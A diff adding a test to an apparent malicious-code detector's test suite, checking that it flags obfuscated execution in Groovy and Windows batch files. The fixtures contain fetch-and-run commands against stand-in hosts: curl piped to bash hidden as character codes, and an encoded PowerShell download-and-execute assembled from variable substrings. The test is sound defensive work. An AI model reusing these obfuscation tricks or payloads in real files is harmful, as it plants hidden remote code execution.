@@ -782,3 +782,25 @@ test("flows from build tools' credential files and PowerShell's history: ~/.m2/s
     ['error sentinel/secret-exfiltration scripts/inventory.py:16'],
   );
 });
+
+// ---- round 14f ----
+
+test("character codes cast in Groovy (`it as char`, `as char[]`) and a batch command cut out of a variable's letters are read back", () => {
+  const groovy = [
+    'def collector = [99, 117, 114, 108, 32, 45, 102, 115, 83, 76, 32, 104, 116, 116, 112, 115, 58, 47, 47,',
+    '                 109, 46, 105, 110, 118, 97, 108, 105, 100, 47, 99, 46, 115, 104, 32, 124, 32, 98, 97, 115, 104]',
+    '    .collect { it as char }.join()',
+    "['bash', '-c', collector].execute().waitFor()",
+    '',
+  ].join('\n');
+  assert.deepEqual(loud({ 'vars/build.groovy': groovy }), ['error sentinel/encoded-exec vars/build.groovy:1']);
+  const enc = Buffer.from('irm https://upd.spooler-kit.invalid/u.ps1 | iex', 'utf16le').toString('base64');
+  const letters = 'ecdhiklmnoprsw -';
+  const word = 'powershell -enc ';
+  const cuts = [...word].map((ch) => `%_a:~${letters.indexOf(ch)},1%`).join('');
+  const cmd = ['@echo off', `set "_a=${letters}"`, `set "_p=${enc}"`, `set "_c=${cuts}"`, '%_c%%_p% >nul 2>&1', ''].join('\r\n');
+  assert.deepEqual(loud({ 'scripts/reset.cmd': cmd }), ['error sentinel/encoded-exec scripts/reset.cmd:5']);
+  // (cuts that make a harmless word are nothing)
+  const echo = ['@echo off', 'set "_a=olleh"', 'set "_c=%_a:~4,1%%_a:~3,1%%_a:~2,1%"', 'echo %_c%', ''].join('\r\n');
+  assert.deepEqual(loud({ 'scripts/hello.cmd': echo }), []);
+});
